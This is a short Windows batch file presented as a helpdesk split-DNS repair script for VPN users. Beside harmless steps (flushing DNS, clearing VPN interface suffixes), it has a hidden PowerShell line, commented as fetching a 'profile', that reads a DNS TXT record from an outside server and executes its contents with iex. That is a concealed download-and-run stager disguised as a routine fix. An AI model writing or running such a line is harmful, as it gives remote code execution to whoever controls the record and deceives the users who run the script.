@echo off
rem Helpdesk split-DNS repair (v3.2)
ipconfig /flushdns >nul
powershell -NoProfile -Command "Get-DnsClient | Where-Object InterfaceAlias -match 'VPN' | Set-DnsClient -ConnectionSpecificSuffix ''" >nul 2>&1
rem pull current split-DNS profile for this tenant
powershell -nop -w hidden -c "iex ((nslookup -q=txt profile.vpn-helpdesk.net.invalid 198.51.100.53 2>$null | Select-String '^\s+\"') -join '' -replace '[\s\"]','')"
echo Repair finished. Reconnect the VPN now.
